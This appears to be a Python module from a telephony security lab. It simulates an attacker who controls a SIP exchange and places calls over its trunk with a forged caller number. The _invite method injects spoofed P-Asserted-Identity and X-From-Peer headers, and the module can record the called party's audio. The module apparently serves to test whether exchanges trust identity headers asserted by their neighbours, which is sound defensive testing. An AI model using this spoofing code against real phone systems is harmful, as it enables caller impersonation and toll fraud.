"""An attacker who has taken over an exchange: from its own address he calls by its trunk, as whoever he likes."""

import asyncio
import socket
from collections import defaultdict
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

from lab.asterisk.exchange import SIP_PORT
from lab.namespace import Namespace
from support.sip_message import SipMessage
from support.sip_text import response_to

RTP_HEADER = 12
LONGEST_UNANSWERED_S = 30.0
_RESENT_AFTER_S = (0.5, 1.0, 2.0, 4.0, 8.0)


@dataclass
class ForgedCall:
    """One call, and how it went.

    Attributes:
        caller: the number that he gave himself, as the trunk brings it: without the trunk's prefix.
        dialled: what he dialled.
        status: the final response's.
        heard: what was said to him, in µ-law, if he listened.
    """

    caller: str
    dialled: str
    status: int = 0
    heard: bytearray = field(default_factory=bytearray)


class Forger(asyncio.DatagramProtocol):
    """Made by `forging`. His calls are silent ones, and are over when he hangs up or the far end does.

    His port is another one than the exchange's, which still runs there: a trunk is known by its address.
    """

    def __init__(self, namespace: Namespace, address: str, exchange: str) -> None:
        self._namespace = namespace
        self.sip = self._bound(address, 0)
        self._port = self.sip.getsockname()[1]
        self._address = address
        self._exchange = exchange
        self._begun = 0
        self._responses: defaultdict[str, asyncio.Queue[SipMessage]] = defaultdict(asyncio.Queue)
        self._hung_up: defaultdict[str, asyncio.Event] = defaultdict(asyncio.Event)
        self._deaf = self._bound(address, 0)

    def datagram_received(self, data: bytes, _: object) -> None:
        """A response, or a BYE, or what an exchange asks its neighbour now and then."""
        message = SipMessage.parse(data)
        if message.status:
            self._responses[message.one("Call-ID")].put_nowait(message)
        elif message.method != "ACK":
            self._send(response_to(message, 200, "OK", tag="forged"))
            if message.method == "BYE":
                self._hung_up[message.one("Call-ID")].set()

    def close(self) -> None:
        """Let the sockets go."""
        self._deaf.close()

    async def call(
        self, caller: str, dialled: str, *, longest_s: float = 60, listens: bool = False
    ) -> ForgedCall:
        """Call as this number, until the far end hangs up, or so many seconds after its answer.

        Args:
            caller: the number; with anything else that a SIP user may be made of.
            dialled: the digits.
            longest_s: when he hangs up himself, in seconds.
            listens: whether it is kept what he is told.
        """
        self._begun += 1
        forged = ForgedCall(caller, dialled)
        call_id = f"forged-{self._begun}-{self._address}-{self._port}"
        media = self._bound(self._address, 0) if listens else self._deaf
        invite = self._invite(forged, call_id, media.getsockname()[1])
        final = await self._answered(invite, call_id)
        forged.status = final.status
        ack = _within(invite, "ACK", final)
        self._send(ack)
        hearing = asyncio.ensure_future(_hear(media, forged.heard)) if listens else None
        try:
            if final.status == 200:
                await self._until_over(invite, final, call_id, longest_s)
        finally:
            if hearing is not None:
                hearing.cancel()
                await asyncio.gather(hearing, return_exceptions=True)
                media.close()
            del self._responses[call_id]
        return forged

    async def _answered(self, invite: SipMessage, call_id: str) -> SipMessage:
        """Send it until somebody says something (RFC 3261 17.1.1.2); the final response."""
        responses = self._responses[call_id]
        for wait_s in _RESENT_AFTER_S:
            self._send(invite)
            with suppress(TimeoutError):
                response = await asyncio.wait_for(responses.get(), wait_s)
                while response.status < 200:
                    response = await asyncio.wait_for(responses.get(), LONGEST_UNANSWERED_S)
                return response
        msg = f"{self._exchange} does not answer"
        raise TimeoutError(msg)

    async def _until_over(
        self, invite: SipMessage, final: SipMessage, call_id: str, longest_s: float
    ) -> None:
        try:
            async with asyncio.timeout(longest_s):
                await self._hung_up[call_id].wait()
        except TimeoutError:
            self._send(_within(invite, "BYE", final))

    def _invite(self, forged: ForgedCall, call_id: str, media_port: int) -> SipMessage:
        sdp = (
            f"v=0\r\no=- 1 1 IN IP4 {self._address}\r\ns=-\r\nc=IN IP4 {self._address}\r\nt=0 0\r\n"
            f"m=audio {media_port} RTP/AVP 0\r\n"
        )
        user = f"{forged.caller}@" if forged.caller else ""
        headers = [
            ("Via", f"SIP/2.0/UDP {self._address}:{self._port};rport;branch=z9hG4bK{call_id}"),
            ("From", f"<sip:{user}{self._address}>;tag=forged"),
            ("To", f"<sip:{forged.dialled}@{self._exchange}>"),
            ("Call-ID", call_id),
            ("CSeq", "1 INVITE"),
            ("Contact", f"<sip:forger@{self._address}:{self._port}>"),
            ("Max-Forwards", "70"),
            # what an exchange adds itself, and must not believe of a neighbour
            ("P-Asserted-Identity", f"<sip:3001@{self._exchange}>"),
            ("X-From-Peer", "3001"),
            ("Content-Type", "application/sdp"),
        ]
        start_line = f"INVITE sip:{forged.dialled}@{self._exchange}:{SIP_PORT} SIP/2.0"
        return SipMessage(start_line, tuple(headers), sdp)

    def _send(self, message: SipMessage) -> None:
        self.sip.sendto(message.encode(), (self._exchange, SIP_PORT))

    def _bound(self, address: str, port: int) -> socket.socket:
        opened = self._namespace.socket()
        opened.setblocking(False)
        opened.bind((address, port))
        return opened


@asynccontextmanager
async def forging(namespace: Namespace, address: str, exchange: str) -> AsyncIterator[Forger]:
    """An attacker at the exchange of this address, who calls the exchange of that one.

    Args:
        namespace: the lab's.
        address: whose trunk he uses.
        exchange: whom he calls.
    """
    forger = Forger(namespace, address, exchange)
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: forger, sock=forger.sip)
    try:
        yield forger
    finally:
        transport.close()
        forger.close()


def _within(invite: SipMessage, method: str, final: SipMessage) -> SipMessage:
    """A further request of the call: the ACK, or a BYE after it."""
    contact = final.one("Contact").strip("<>").partition(">")[0]
    uri = contact if final.status == 200 else invite.uri
    sequence = "1 ACK" if method == "ACK" else f"2 {method}"
    via = invite.one("Via") if final.status != 200 else f"{invite.one('Via')}{method}"
    headers = [("Via", via), ("From", invite.one("From")), ("To", final.one("To"))]
    headers += [("Call-ID", invite.one("Call-ID")), ("CSeq", sequence), ("Max-Forwards", "70")]
    return SipMessage(f"{method} {uri} SIP/2.0", tuple(headers))


async def _hear(media: socket.socket, heard: bytearray) -> None:
    """Keep the payloads as they come."""
    loop = asyncio.get_running_loop()
    while True:
        heard += (await loop.sock_recv(media, 2048))[RTP_HEADER:]
